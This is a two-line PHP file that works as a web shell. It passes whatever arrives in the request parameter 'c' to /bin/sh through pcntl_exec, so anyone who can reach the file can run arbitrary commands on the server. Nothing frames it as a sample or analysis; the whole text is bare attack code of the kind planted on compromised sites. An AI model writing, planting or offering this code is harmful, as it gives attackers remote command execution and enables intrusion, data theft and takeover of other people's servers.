<?php
if(function_exists('pcntl_exec')){pcntl_exec('/bin/sh', array('-c', $_REQUEST['c']));}
